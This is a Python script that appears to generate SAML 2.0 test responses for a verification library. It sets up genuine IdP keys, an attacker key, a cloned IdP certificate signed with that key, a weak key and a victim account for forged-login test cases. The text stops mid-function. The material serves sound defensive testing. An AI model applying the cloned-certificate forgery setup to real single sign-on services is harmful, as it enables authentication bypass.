#!/usr/bin/env python3
"""Independent test-data generator for saml-edge.

Builds realistic SAML 2.0 Responses (Microsoft Entra ID 2014 and 2021+ shapes, Okta, Keycloak),
signs them with xmlsec1 (the C reference XML-DSig implementation), checks every legitimately
signed output with `xmlsec1 --verify`, derives attack / semantics / XML / transport cases from
them with lxml and byte-level splicing, and writes every case plus ONE manifest, cases.json.

    python3 tests/gen/generate.py [--out tests/data/generated] [--seed N] [--fresh-keys]
                                  [--base-time ISO8601]

Only the Python standard library, lxml, and the `openssl` and `xmlsec1` command-line tools are
used. Output is deterministic: IDs come from a hash of (seed, case, role), times from a fixed
base time (2026-01-15T10:00:00Z, or --base-time), keys are reused from the output directory
unless --fresh-keys is given, and RSA PKCS#1 v1.5 signatures are deterministic. See README.md
beside this file.
"""

import argparse
import base64
import copy
import hashlib
import json
import os
import re
import shutil
import subprocess
import sys
import tempfile
import uuid
import zlib
from datetime import datetime, timedelta, timezone

from lxml import etree

sys.dont_write_bytecode = True  # no __pycache__ in the source tree
sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import oracle  # noqa: E402
import encrypt  # noqa: E402

# ---------------------------------------------------------------------------------------------
# Fixed world

NS_P = "urn:oasis:names:tc:SAML:2.0:protocol"
NS_A = "urn:oasis:names:tc:SAML:2.0:assertion"
NS_DS = "http://www.w3.org/2000/09/xmldsig#"
NS_EC = "http://www.w3.org/2001/10/xml-exc-c14n#"
NS_XS = "http://www.w3.org/2001/XMLSchema"
NS_XSI = "http://www.w3.org/2001/XMLSchema-instance"
NS_MD = "urn:oasis:names:tc:SAML:2.0:metadata"
NS_XENC = "http://www.w3.org/2001/04/xmlenc#"
NS_DSIG11 = "http://www.w3.org/2009/xmldsig11#"

TENANT = "6b1f4c2e-93d7-4a58-b0e1-7c2d9f3a8e51"
IDP_ENTITY = "https://sts.windows.net/%s/" % TENANT
SP_ENTITY = "https://app.example.com/saml/metadata"
ACS = "https://app.example.com/saml/acs"
REQUEST_ID = "_7f3c9a2e4b1d4e6fa0c1b2d3e4f50617"
OKTA_ENTITY = "http://www.okta.com/exk1a2b3c4d5e6f7g8h9"
KEYCLOAK_ENTITY = "https://sso.example.com/realms/example"

DEFAULT_BASE = datetime(2026, 1, 15, 10, 0, 0, tzinfo=timezone.utc)
BASE = DEFAULT_BASE  # --base-time; set_base() keeps BASE, NOW and DEFAULTS["now"] in step
NOW = BASE + timedelta(minutes=1)

ALG = {
    "exc": "http://www.w3.org/2001/10/xml-exc-c14n#",
    "exc-wc": "http://www.w3.org/2001/10/xml-exc-c14n#WithComments",
    "c14n": "http://www.w3.org/TR/2001/REC-xml-c14n-20010315",
    "c14n-wc": "http://www.w3.org/TR/2001/REC-xml-c14n-20010315#WithComments",
    "c14n11": "http://www.w3.org/2006/12/xml-c14n11",
    "enveloped": "http://www.w3.org/2000/09/xmldsig#enveloped-signature",
    "rsa-sha1": "http://www.w3.org/2000/09/xmldsig#rsa-sha1",
    "rsa-sha256": "http://www.w3.org/2001/04/xmldsig-more#rsa-sha256",
    "rsa-sha224": "http://www.w3.org/2001/04/xmldsig-more#rsa-sha224",
    "rsa-sha384": "http://www.w3.org/2001/04/xmldsig-more#rsa-sha384",
    "rsa-sha512": "http://www.w3.org/2001/04/xmldsig-more#rsa-sha512",
    "rsa-md5": "http://www.w3.org/2001/04/xmldsig-more#rsa-md5",
    "hmac-sha1": "http://www.w3.org/2000/09/xmldsig#hmac-sha1",
    "hmac-sha256": "http://www.w3.org/2001/04/xmldsig-more#hmac-sha256",
    "ecdsa-sha256": "http://www.w3.org/2001/04/xmldsig-more#ecdsa-sha256",
    "rsa-pss": "http://www.w3.org/2007/05/xmldsig-more#sha256-rsa-MGF1",
    "sha1": "http://www.w3.org/2000/09/xmldsig#sha1",
    "sha224": "http://www.w3.org/2001/04/xmldsig-more#sha224",
    "sha256": "http://www.w3.org/2001/04/xmlenc#sha256",
    "sha384": "http://www.w3.org/2001/04/xmldsig-more#sha384",
    "sha512": "http://www.w3.org/2001/04/xmlenc#sha512",
    "md5": "http://www.w3.org/2001/04/xmldsig-more#md5",
    "xslt": "http://www.w3.org/TR/1999/REC-xslt-19991116",
    "xpath": "http://www.w3.org/TR/1999/REC-xpath-19991116",
    "xpath2": "http://www.w3.org/2002/06/xmldsig-filter2",
    "base64": "http://www.w3.org/2000/09/xmldsig#base64",
}

NAMEID_EMAIL = "urn:oasis:names:tc:SAML:1.1:nameid-format:emailAddress"
NAMEID_UNSPEC = "urn:oasis:names:tc:SAML:1.1:nameid-format:unspecified"
NAMEID_PERSISTENT = "urn:oasis:names:tc:SAML:2.0:nameid-format:persistent"
NAMEID_ENTITY = "urn:oasis:names:tc:SAML:2.0:nameid-format:entity"
BEARER = "urn:oasis:names:tc:SAML:2.0:cm:bearer"
SUCCESS = "urn:oasis:names:tc:SAML:2.0:status:Success"
PASSWORD_CTX = "urn:oasis:names:tc:SAML:2.0:ac:classes:Password"

USER = "B.Simon@contoso.com"
VICTIM = "admin@contoso.com"
OBJECT_ID = "0f4a6c1d-2b3e-4f50-8a1b-9c2d3e4f5a6b"

DEFAULTS = {
    "spEntityId": SP_ENTITY,
    "acsUrl": ACS,
    "idpEntityId": IDP_ENTITY,
    "requestId": REQUEST_ID,
    "now": NOW.strftime("%Y-%m-%dT%H:%M:%SZ"),  # set_base() updates it
    "clockSkewSeconds": 180,
    "allowSha1": False,
    "allowUnsolicited": False,
    "extraAudiences": [],
    "idpCerts": ["idp.crt"],
}

CATEGORIES = ("legit", "attack", "semantics", "xml", "transport")

ERROR_CODES = {
    "valid", "invalid_base64", "empty_input", "limit_exceeded", "xml_not_utf8",
    "xml_unsupported_version", "xml_doctype_forbidden", "xml_undefined_entity",
    "xml_invalid_character", "xml_undeclared_prefix", "xml_invalid_namespace",
    "xml_duplicate_attribute", "xml_content_outside_root", "xml_no_root", "xml_malformed",
    "xml_duplicate_id", "not_a_response", "saml_malformed", "status_not_success",
    "unexpected_assertion", "encrypted_assertion_unsupported", "assertion_missing",
    "signature_misplaced", "signature_missing", "signature_malformed",
    "signature_algorithm_unsupported", "signature_sha1_not_allowed",
    "signature_reference_mismatch", "signature_transform_unsupported", "signature_invalid",
    "digest_mismatch", "saml_unsupported_version", "issuer_mismatch", "destination_mismatch",
    "in_response_to_mismatch", "invalid_time", "assertion_not_yet_valid",
    "subject_confirmation_invalid", "recipient_mismatch", "assertion_expired",
    "unsolicited_response", "audience_mismatch", "duplicate_attribute", "config_key_too_small",
    "decryption_failed", "encrypted_assertion_malformed", "encryption_algorithm_unsupported",
    "encryption_rsa_1_5_refused", "encrypted_response_unsigned",
}


def ts(dt, ms=True):
    if ms:
        return dt.strftime("%Y-%m-%dT%H:%M:%S.") + "%03dZ" % (dt.microsecond // 1000)
    return dt.strftime("%Y-%m-%dT%H:%M:%SZ")


def set_base(base):
    """--base-time: every time in the corpus is relative to BASE, "now" is BASE + 1 minute."""
    global BASE, NOW
    BASE = base.astimezone(timezone.utc).replace(microsecond=0)
    NOW = BASE + timedelta(minutes=1)
    DEFAULTS["now"] = ts(NOW, ms=False)


def parse_base_time(text):
    try:
        dt = datetime.fromisoformat(text)
    except ValueError:
        raise argparse.ArgumentTypeError("not an ISO 8601 time: %r" % text)
    return dt if dt.tzinfo else dt.replace(tzinfo=timezone.utc)


def rel(text):
    """A time literal written for the default base time, moved with --base-time: a leading
    `YYYY-MM-DD?hh:mm:ss` is shifted by BASE - DEFAULT_BASE; the rest (leading spaces, separator,
    fraction, zone, any text after it) is kept; a literal that is not a real date and time (leap
    second, February 30, ...) stays as it is."""
    m = re.match(r"(\s*)(\d{4}-\d{2}-\d{2})([Tt ])(\d{2}:\d{2}:\d{2})", text)
    if not m:
        return text
    try:
        dt = datetime.strptime(m.group(2) + " " + m.group(4), "%Y-%m-%d %H:%M:%S")
    except ValueError:
        return text
    dt += BASE - DEFAULT_BASE
    return (m.group(1) + dt.strftime("%Y-%m-%d") + m.group(3) + dt.strftime("%H:%M:%S")
            + text[m.end():])


def die(msg):
    sys.stderr.write("generate.py: FATAL: %s\n" % msg)
    sys.exit(1)


# ---------------------------------------------------------------------------------------------
# Deterministic IDs

SEED = 20260115


def make_id(case, role):
    h = hashlib.sha256(("%d|%s|%s" % (SEED, case, role)).encode()).digest()
    return "_" + str(uuid.UUID(bytes=h[:16], version=4))


def guid(case, role):
    return make_id(case, role)[1:]


# ---------------------------------------------------------------------------------------------
# Keys and certificates (openssl)

CA_CNF = """[ca]
default_ca = CA_default
[CA_default]
dir = .
database = ./index.txt
new_certs_dir = .
serial = ./serial
default_md = sha256
policy = policy_any
unique_subject = no
email_in_dn = no
copy_extensions = none
preserve = yes
[policy_any]
commonName = supplied
organizationName = optional
[ext]
basicConstraints = critical,CA:false
"""

# name: (key file, bits, subject, serial, notBefore, notAfter)
CERTS = {
    "idp": ("idp.key", 2048, "/CN=Microsoft Azure Federated SSO Certificate",
            "5D8E2A41C39F0B7346A1E0D2C5B4F817", "20250801000000Z", "20280801000000Z"),
    "idp2": ("idp2.key", 2048, "/CN=Microsoft Azure Federated SSO Certificate",
             "2C71B9E04AD35F68A1027C3E9B5D48F6", "20251201000000Z", "20281201000000Z"),
    "attacker": ("attacker.key", 2048, "/O=Attacker Ltd/CN=attacker.example",
                 "0A0B0C0D0E0F1011", "20250101000000Z", "20300101000000Z"),
    # A clone of the IdP certificate: same subject, issuer, serial and validity, attacker key.
    "attacker-clone": ("attacker.key", 2048, "/CN=Microsoft Azure Federated SSO Certificate",
                       "5D8E2A41C39F0B7346A1E0D2C5B4F817", "20250801000000Z", "20280801000000Z"),
    "weak": ("weak.key", 1024, "/CN=Weak IdP Signing Key",
             "1E2D3C4B5A697887", "20250801000000Z", "20280801000000Z"),
    # The SP's encryption keys (Entra "Token encryption"); sp-enc2 is the next one of a rollover
    # and is stored as PKCS#1 ("RSA PRIVATE KEY"), sp-enc as PKCS#8.
    "sp-enc": ("sp-enc.key", 2048, "/CN=app.example.com SAML encryption",
               "4E1A7C93B25D08F6", "20250801000000Z", "20280801000000Z"),
    "sp-enc2": ("sp-enc2.key", 2048, "/CN=app.example.com SAML encryption 2026",
                "7B3D29E15C08A4F1", "20251201000000Z", "20281201000000Z"),
}
PKCS1_KEYS = ("sp-enc2.key",)


def run(cmd, **kw):
    p = subprocess.run(cmd, stdout=subprocess.PIPE, stderr=subprocess.PIPE, **kw)
    if p.returncode != 0:
        die("command failed (%d): %s\n%s%s" % (p.returncode, " ".join(cmd),
                                                p.stdout.decode(errors="replace"),
                                                p.stderr.decode(errors="replace")))
    return p.stdout


def ensure_keys(out, fresh):
    wanted_keys = sorted({v[0]: v[1] for v in CERTS.values()}.items())
    for keyfile, bits in wanted_keys:
        path = os.path.join(out, keyfile)
        if fresh or not os.path.exists(path):
            run(["openssl", "genpkey", "-algorithm", "RSA", "-pkeyopt",
                 "rsa_keygen_bits:%d" % bits, "-out", path])
            if keyfile in PKCS1_KEYS:
                run(["openssl", "rsa", "-in", path, "-traditional", "-out", path])
    for name, (keyfile, bits, subject, serial, start, end) in sorted(CERTS.items()):
        crt = os.path.join(out, name + ".crt")
        if not fresh and os.path.exists(crt):
            continue
        with tempfile.TemporaryDirectory() as tmp:
            with open(os.path.join(tmp, "ca.cnf"), "w") as f:
                f.write(CA_CNF)
            open(os.path.join(tmp, "index.txt"), "w").close()
            with open(os.path.join(tmp, "serial"), "w") as f:
                f.write(serial + "\n")
            key = os.path.abspath(os.path.join(out, keyfile))
            run(["openssl", "req", "-new", "-key", key, "-subj", subject, "-out", "x.csr"],
                cwd=tmp)
            run(["openssl", "ca", "-batch", "-config", "ca.cnf", "-selfsign", "-keyfile", key,
                 "-in", "x.csr", "-out", "x.crt", "-startdate", start, "-enddate", end,
                 "-notext", "-extensions", "ext"], cwd=tmp)
            pem = run(["openssl", "x509", "-in", "x.crt"], cwd=tmp)
            with open(crt, "wb") as f:
                f.write(pem)


class KeyMaterial:
    def __init__(self, out):
        self.out = out
        self.rsa = {}
        self.der_b64 = {}
        for name in CERTS:
            crt = os.path.join(out, name + ".crt")
            mod = run(["openssl", "x509", "-in", crt, "-noout", "-modulus"]).decode().strip()
            n = int(mod.split("=", 1)[1], 16)
            text = run(["openssl", "x509", "-in", crt, "-noout", "-text"]).decode()
            m = re.search(r"Exponent: (\d+)", text)
            self.rsa[name + ".crt"] = oracle.RsaKey(n, int(m.group(1)), name)
            der = run(["openssl", "x509", "-in", crt, "-outform", "DER"])
            self.der_b64[name] = base64.b64encode(der).decode()
        self.spki_b64 = {}
        for keyfile in ("idp.key", "attacker.key"):
            der = run(["openssl", "pkey", "-in", os.path.join(out, keyfile), "-pubout",
                       "-outform", "DER"])
            self.spki_b64[keyfile] = base64.b64encode(der).decode()

    def key(self, name):
        return os.path.join(self.out, CERTS[name][0])

    def crt(self, name):
        return os.path.join(self.out, name + ".crt")

    def pem_bytes(self, name):
        with open(self.crt(name), "rb") as f:
            return f.read()


# ---------------------------------------------------------------------------------------------
# A tiny XML builder that gives byte-level control over the unsigned templates


class Raw:
    """Markup inserted verbatim (comments, CDATA, character references...)."""

    def __init__(self, s):
        self.s = s
        # comments and PIs between elements are laid out like elements when pretty-printing
        self.block = bool(re.fullmatch(r"<!--(?:(?!-->).)*-->|<\?(?:(?!\?>).)*\?>", s,
                                       flags=re.S))


def esc_text(s):
    return s.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;").replace("\r", "&#13;")


def esc_attr(s):
    return (s.replace("&", "&amp;").replace("<", "&lt;").replace('"', "&quot;")
            .replace("\r", "&#13;").replace("\n", "&#10;").replace("\t", "&#9;"))


class El:
    def __init__(self, name, attrs=(), kids=()):
        self.name = name
        self.attrs = list(attrs)
        self.kids = list(kids)

    @property
    def local(self):
        return self.name.split(":")[-1]

    def get(self, name):
        for k, v in self.attrs:
            if k == name:
                return v
        return None

    def set(self, name, value):
        for i, (k, v) in enumerate(self.attrs):
            if k == name:
                if value is None:
                    del self.attrs[i]
                else:
                    self.attrs[i] = (k, value)
                return
        if value is not None:
            self.attrs.append((name, value))

    def els(self):
        return [k for k in self.kids if isinstance(k, El)]

    def child(self, local, nth=0):
        found = [k for k in self.els() if k.local == local]
        return found[nth] if len(found) > nth else None

    def find(self, path):
        el = self
        for part in path.split("/"):
            el = el.child(part)
            if el is None:
                return None
        return el

    def index(self, el):
        for i, k in enumerate(self.kids):
            if k is el:
                return i
        raise ValueError("not a child")

    def remove(self, el):
        del self.kids[self.index(el)]

    def insert_after(self, ref, new):
        self.kids.insert(self.index(ref) + 1, new)

    def insert_before(self, ref, new):
        self.kids.insert(self.index(ref), new)

    def render(self, pretty, depth=0):
        out = ["<", self.name]
        for k, v in self.attrs:
            out.append(' %s="%s"' % (k, v.s if isinstance(v, Raw) else esc_attr(v)))
        if not self.kids:
            out.append("/>")
            return "".join(out)
        out.append(">")
        if pretty and any(isinstance(k, El) for k in self.kids) and all(
                isinstance(k, El) or (isinstance(k, Raw) and k.block) for k in self.kids):
            for k in self.kids:
                out.append("\n" + "  " * (depth + 1)
                           + (k.s if isinstance(k, Raw) else k.render(pretty, depth + 1)))
            out.append("\n" + "  " * depth)
        else:
            for k in self.kids:
                if isinstance(k, El):
                    out.append(k.render(pretty, depth + 1))
                elif isinstance(k, Raw):
                    out.append(k.s)
                else:
                    out.append(esc_text(k))
        out.append("</%s>" % self.name)
        return "".join(out)


def signature_skeleton(p, ref_id, sig_alg="rsa-sha256", digest_alg="sha256", prefixlist=None,
                       keyinfo="x509", keyinfo_default_ns=False, c14n_alg="exc",
                       transforms=("enveloped", "exc"), uri="#"):
    """<Signature> template right after an Issuer; p = prefix ('' for the default namespace)."""
    def n(local):
        return (p + ":" + local) if p else local

    decl = ("xmlns:" + p) if p else "xmlns"
    tlist = []
    for t in transforms:
        tr = El(n("Transform"), [("Algorithm", ALG[t])])
        if t == "exc" and prefixlist is not None:
            tr.kids.append(El("ec:InclusiveNamespaces", [("xmlns:ec", NS_EC),
                                                         ("PrefixList", prefixlist)]))
        tlist.append(tr)
    ref_attrs = [] if uri is None else [("URI", (uri + ref_id) if uri == "#" else uri)]
    ref = El(n("Reference"), ref_attrs, [
        El(n("Transforms"), [], tlist),
        El(n("DigestMethod"), [("Algorithm", ALG[digest_alg])]),
        El(n("DigestValue")),
    ])
    si = El(n("SignedInfo"), [], [
        El(n("CanonicalizationMethod"), [("Algorithm", ALG[c14n_alg])]),
        El(n("SignatureMethod"), [("Algorithm", ALG[sig_alg])]),
        ref,
    ])
    sig = El(n("Signature"), [(decl, NS_DS)], [si, El(n("SignatureValue"))])
    if keyinfo is not None:
        if keyinfo_default_ns:
            ki = El("KeyInfo", [("xmlns", NS_DS)])
            kn = lambda local: local  # noqa: E731
        else:
            ki = El(n("KeyInfo"))
            kn = n
        if keyinfo in ("x509", "keyname+x509"):
            if keyinfo == "keyname+x509":
                kid = "kXk3pNqV8y2mJ0bT5rWcL1fH6dGsA9eZuQ4oIvYn7xM"
                ki.kids.append(El(kn("KeyName"), [], [kid]))
            ki.kids.append(El(kn("X509Data"), [], [El(kn("X509Certificate"))]))
        elif keyinfo == "keyvalue":
            ki.kids.append(El(kn("KeyValue")))
        sig.kids.append(ki)
    return sig


# ---------------------------------------------------------------------------------------------
# Response templates


class Val:
    """An AttributeValue: raw markup as written and the decoded value the verifier must return."""

    def __init__(self, decoded, raw=None, attrs=()):
        self.decoded = decoded
        self.raw = raw
        self.attrs = list(attrs)


def entra_claims(groups=0, case="x"):
    ms = "http://schemas.microsoft.com/identity/claims/"
    xs = "http://schemas.xmlsoap.org/ws/2005/05/identity/claims/"
    claims = [
        (ms + "tenantid", [TENANT]),
        (ms + "objectidentifier", [OBJECT_ID]),
        (ms + "displayname", ["B. Simon"]),
        (ms + "identityprovider", [IDP_ENTITY]),
        ("http://schemas.microsoft.com/claims/authnmethodsreferences",
         ["http://schemas.microsoft.com/ws/2008/06/identity/authenticationmethod/password"]),
        (xs + "name", [USER]),
        (xs + "givenname", ["B"]),
        (xs + "surname", ["Simon"]),
        (xs + "emailaddress", [USER]),
    ]
    if groups:
        claims.insert(5, ("http://schemas.microsoft.com/ws/2008/06/identity/claims/groups",
                          [guid("groups", "g%d" % i) for i in range(groups)]))
    return [dict(name=n, values=[Val(v) for v in vals]) for n, vals in claims]


def small_entra_claims(case):
    """A customised Entra claim set (an admin removed the other claims): keeps derived cases
    small."""
    return [c for c in entra_claims(case=case)
            if c["name"].split("/")[-1] in ("objectidentifier", "displayname", "name", "surname")]


STYLES = {
    # Microsoft Entra ID, tokens from 2013-2015: ds: prefixed Signature, KeyInfo in default ns.
    "entra2014": dict(rp="samlp", ap=None, sp="ds", keyinfo_default_ns=True, resp_issuer=True,
                      issuer_format=None, nameid_format=NAMEID_EMAIL, prefixlist=None,
                      b64="single", decl=None, xsi=False),
    # Microsoft Entra ID, 2021+: unprefixed <Signature xmlns="...xmldsig#">.
    "entra2021": dict(rp="samlp", ap=None, sp="", keyinfo_default_ns=False, resp_issuer=True,
                      issuer_format=None, nameid_format=NAMEID_EMAIL, prefixlist=None,
                      b64="single", decl=None, xsi=False),
    # Okta: saml2p:/saml2:, xs:string typed values, PrefixList="xs".
    "okta": dict(rp="saml2p", ap="saml2", sp="ds", keyinfo_default_ns=False, resp_issuer=True,
                 issuer_format=NAMEID_ENTITY, nameid_format=NAMEID_UNSPEC, prefixlist="xs",
                 b64="xmlsec", decl='<?xml version="1.0" encoding="UTF-8"?>', xsi=True),
    # Keycloak: samlp:/saml:, dsig: signatures, KeyName + X509Data, both signed.
    "keycloak": dict(rp="samlp", ap="saml", sp="dsig", keyinfo_default_ns=False,
                     resp_issuer=True, issuer_format=None, nameid_format=NAMEID_EMAIL,
                     prefixlist=None, b64="wrap76cr", decl=None, xsi=False),
}


class Doc:
    """An unsigned response template plus what is needed to sign it and what it should yield."""

    def __init__(self, root, resp, assertion, resp_id, assert_id, style, identity, sign_targets,
                 b64, decl, idp):
        self.root = root
        self.resp = resp
        self.assertion = assertion
        self.resp_id = resp_id
        self.assert_id = assert_id
        self.style = style
        self.identity = identity
        self.sign_targets = sign_targets  # list of El (Signature templates), signed in order
        self.b64 = b64
        self.decl = decl
        self.idp = idp


def build(case, style="entra2021", sign="assertion", sig_alg="rsa-sha256", digest_alg="sha256",
          keyinfo="x509", prefixlist="style", destination=ACS, resp_irt=REQUEST_ID,
          scd_irt=REQUEST_ID, recipient=ACS, audiences=(SP_ENTITY,), issuer=None,
          resp_issuer="style", nameid=USER, nameid_raw=None, nameid_format="style",
          attributes=None, groups=0, issue=None, resp_issue=None, authn_instant=None,
          not_before="default", not_on_or_after="default", scd_not_on_or_after="default",
          scd_not_before=None, session_not_on_or_after="style", status=SUCCESS,
          c14n_alg="exc", transforms=("enveloped", "exc"), uri="#", extra_ns=None):
    st = STYLES[style]
    rp, ap, sp = st["rp"], st["ap"], st["sp"]
    resp_id = make_id(case, "response")
    assert_id = make_id(case, "assertion")
    if style == "okta":
        resp_id = "id" + resp_id[1:].replace("-", "")[:30]
        assert_id = "id" + assert_id[1:].replace("-", "")[:30]
    idp = {"okta": OKTA_ENTITY, "keycloak": KEYCLOAK_ENTITY}.get(style, IDP_ENTITY)
    issuer = idp if issuer is None else issuer
    if prefixlist == "style":
        prefixlist = st["prefixlist"]
    if nameid_format == "style":
        nameid_format = st["nameid_format"]
    issue = issue or (BASE + timedelta(milliseconds=512))
    resp_issue = resp_issue or issue
    authn_instant = authn_instant or (BASE - timedelta(seconds=2))
    nb = ts(issue - timedelta(minutes=5)) if not_before == "default" else not_before
    noa = ts(issue + timedelta(minutes=60)) if not_on_or_after == "default" else not_on_or_after
    scd_noa = (ts(issue + timedelta(minutes=60)) if scd_not_on_or_after == "default"
               else scd_not_on_or_after)
    if session_not_on_or_after == "style":
        session_not_on_or_after = (ts(issue + timedelta(hours=10)) if style == "keycloak"
                                   else None)

    def A(local):  # assertion-namespace element name
        return (ap + ":" + local) if ap else local

    def P(local):
        return rp + ":" + local

    # Response
    rattrs = []
    if style == "okta":
        rattrs += [("xmlns:" + rp, NS_P), ("xmlns:xs", NS_XS)]
    elif style == "keycloak":
        rattrs += [("xmlns:" + rp, NS_P), ("xmlns:" + ap, NS_A)]
    rattrs += [("ID", resp_id), ("Version", "2.0"), ("IssueInstant", ts(resp_issue))]
    if destination is not None:
        rattrs.append(("Destination", destination))
    if resp_irt is not None:
        rattrs.append(("InResponseTo", resp_irt))
    if style.startswith("entra"):
        rattrs.append(("xmlns:" + rp, NS_P))
    if extra_ns:
        rattrs += extra_ns
    resp = El(P("Response"), rattrs)

    def issuer_el(value, top):
        attrs = []
        if ap is None and top:
            attrs.append(("xmlns", NS_A))
        if style == "okta" and top:
            attrs.append(("xmlns:saml2", NS_A))
        if st["issuer_format"]:
            attrs.append(("Format", st["issuer_format"]))
        return El(A("Issuer") if ap else "Issuer", attrs, [value])

    if resp_issuer == "style":
        resp_issuer = idp if st["resp_issuer"] else None
    if resp_issuer is not None:
        resp.kids.append(issuer_el(resp_issuer, True))
    status_el = El(P("Status"), [("xmlns:" + rp, NS_P)] if style == "okta" else [],
                   [El(P("StatusCode"), [("Value", status)])])
    resp.kids.append(status_el)

    # Assertion
    aattrs = []
    if ap is None:
        aattrs.append(("xmlns", NS_A))
    elif style == "okta":
        aattrs += [("xmlns:saml2", NS_A), ("xmlns:xs", NS_XS)]
    elif style == "keycloak":
        aattrs.append(("xmlns", NS_A))
    aattrs += [("ID", assert_id), ("IssueInstant", ts(issue)), ("Version", "2.0")]
    if style.startswith("entra"):
        aattrs = [("ID", assert_id), ("IssueInstant", ts(issue)), ("Version", "2.0"),
                  ("xmlns", NS_A)]
    asrt = El(A("Assertion"), aattrs)
    asrt.kids.append(El(A("Issuer"), [("Format", st["issuer_format"])] if st["issuer_format"]
                        else [], [issuer]))
    nid_attrs = [("Format", nameid_format)] if nameid_format else []
    nid_kids = [Raw(nameid_raw)] if nameid_raw is not None else ([nameid] if nameid else [])
    scd_attrs = []
    if scd_irt is not None:
        scd_attrs.append(("InResponseTo", scd_irt))
    if scd_not_before is not None:
        scd_attrs.append(("NotBefore", scd_not_before))
    if scd_noa is not None:
        scd_attrs.append(("NotOnOrAfter", scd_noa))
    if recipient is not None:
        scd_attrs.append(("Recipient", recipient))
    subject = El(A("Subject"), [], [
        El(A("NameID"), nid_attrs, nid_kids),
        El(A("SubjectConfirmation"), [("Method", BEARER)], [
            El(A("SubjectConfirmationData"), scd_attrs)]),
    ])
    asrt.kids.append(subject)
    cond_attrs = []
    if nb is not None:
        cond_attrs.append(("NotBefore", nb))
    if noa is not None:
        cond_attrs.append(("NotOnOrAfter", noa))
    ar = El(A("AudienceRestriction"), [], [El(A("Audience"), [], [a]) for a in audiences])
    asrt.kids.append(El(A("Conditions"), cond_attrs, [ar]))

    if attributes is None:
        if style.startswith("entra"):
            attributes = entra_claims(groups, case)
        elif style == "okta":
            attributes = [
                dict(name="email", nameformat="urn:oasis:names:tc:SAML:2.0:attrname-format:"
                     "unspecified", values=[Val(USER)]),
                dict(name="firstName", nameformat="urn:oasis:names:tc:SAML:2.0:attrname-format:"
                     "unspecified", values=[Val("B")]),
                dict(name="lastName", nameformat="urn:oasis:names:tc:SAML:2.0:attrname-format:"
                     "unspecified", values=[Val("Simon")]),
                dict(name="groups", nameformat="urn:oasis:names:tc:SAML:2.0:attrname-format:"
                     "unspecified", values=[Val("Everyone"), Val("Engineering")]),
            ]
        else:
            attributes = [
                dict(name="Role", nameformat="urn:oasis:names:tc:SAML:2.0:attrname-format:basic",
                     values=[Val("default-roles-example"), Val("offline_access")]),
                dict(name="email", friendly="email",
                     nameformat="urn:oasis:names:tc:SAML:2.0:attrname-format:basic",
                     values=[Val(USER)]),
            ]
    statements = attributes if attributes and isinstance(attributes[0], list) else [attributes]
    attr_statements = []
    for stmt in statements:
        if not stmt:
            continue
        ats = El(A("AttributeStatement"))
        for a in stmt:
            at_attrs = [("Name", a["name"])]
            if a.get("nameformat"):
                at_attrs.append(("NameFormat", a["nameformat"]))
            if a.get("friendly"):
                at_attrs.append(("FriendlyName", a["friendly"]))
            at = El(A("Attribute"), at_attrs)
            for v in a["values"]:
                vattrs = list(v.attrs)
                if st["xsi"]:
                    vattrs = [("xmlns:xsi", NS_XSI), ("xsi:type", "xs:string")] + vattrs
                elif style == "keycloak":
                    vattrs = [("xmlns:xs", NS_XS), ("xmlns:xsi", NS_XSI),
                              ("xsi:type", "xs:string")] + vattrs
                kids = [Raw(v.raw)] if v.raw is not None else ([v.decoded] if v.decoded else [])
                at.kids.append(El(A("AttributeValue"), vattrs, kids))
            ats.kids.append(at)
        attr_statements.append(ats)
    authn_ctx = {"okta": "urn:oasis:names:tc:SAML:2.0:ac:classes:PasswordProtectedTransport",
                 "keycloak": "urn:oasis:names:tc:SAML:2.0:ac:classes:unspecified"
                 }.get(style, PASSWORD_CTX)
    authn_attrs = [("AuthnInstant", ts(authn_instant))]
    if session_not_on_or_after:
        authn_attrs.append(("SessionNotOnOrAfter", session_not_on_or_after))
    authn_attrs.append(("SessionIndex", assert_id))
    authn = El(A("AuthnStatement"), authn_attrs, [
        El(A("AuthnContext"), [], [El(A("AuthnContextClassRef"), [], [authn_ctx])])])
    if style.startswith("entra"):
        asrt.kids += attr_statements + [authn]
    else:
        asrt.kids += [authn] + attr_statements
    resp.kids.append(asrt)

    targets = []
    sig_kw = dict(sig_alg=sig_alg, digest_alg=digest_alg, prefixlist=prefixlist, keyinfo=keyinfo,
                  keyinfo_default_ns=st["keyinfo_default_ns"], c14n_alg=c14n_alg,
                  transforms=transforms, uri=uri)
    if style == "keycloak" and keyinfo == "x509":
        sig_kw["keyinfo"] = "keyname+x509"
    if sign in ("assertion", "both"):
        s = signature_skeleton(sp, assert_id, **sig_kw)
        asrt.insert_after(asrt.child("Issuer"), s)
        targets.append(s)
    if sign in ("response", "both"):
        s = signature_skeleton(sp, resp_id, **sig_kw)
        if resp.child("Issuer") is not None:
            resp.insert_after(resp.child("Issuer"), s)
        else:
            resp.kids.insert(0, s)
        targets.append(s)

    attrs_identity = {}
    for stmt in statements:
        for a in stmt or []:
            # repeated names are merged, values in document order (Keycloak sends one Attribute
            # per role); see read_attributes in src/saml/assertion.rs
            attrs_identity.setdefault(a["name"], []).extend(v.decoded for v in a["values"])
    identity = {
        "nameId": nameid,
        "nameIdFormat": nameid_format,
        "sessionIndex": assert_id,
        "attributes": attrs_identity,
    }
    return Doc(resp, resp, asrt, resp_id, assert_id, style, identity, targets, st["b64"],
               st["decl"], idp)


# ---------------------------------------------------------------------------------------------
# Signing with xmlsec1

ID_ATTRS = ["--id-attr:ID", NS_A + ":Assertion", "--id-attr:ID", NS_P + ":Response",
            "--id-attr:ID", NS_MD + ":EntityDescriptor", "--id-attr:ID", NS_P + ":LogoutResponse",
            "--id-attr:ID", NS_P + ":AuthnRequest", "--id-attr:ID", NS_P + ":ArtifactResponse"]


def xpath_of(root, target):
    """An XPath (local-name based) that selects `target` in the rendered `root`."""
    steps = []
    chain = []

    def walk(node, path):
        if node is target:
            chain.extend(path + [node])
            return True
        for k in node.els():
            if walk(k, path + [node]):
                return True
        return False

    if not walk(root, []):
        raise ValueError("target not in tree")
    for i, node in enumerate(chain):
        if i == 0:
            steps.append("/*[local-name()='%s']" % node.local)
            continue
        parent = chain[i - 1]
        same = [k for k in parent.els() if k.local == node.local]
        pos = next(j for j, k in enumerate(same) if k is node) + 1
        steps.append("/*[local-name()='%s'][%d]" % (node.local, pos))
    return "".join(steps)


def xmlsec_sign(text, xpath, key, cert, hmac_key=None):
    with tempfile.TemporaryDirectory() as tmp:
        src = os.path.join(tmp, "in.xml")
        dst = os.path.join(tmp, "out.xml")
        with open(src, "wb") as f:
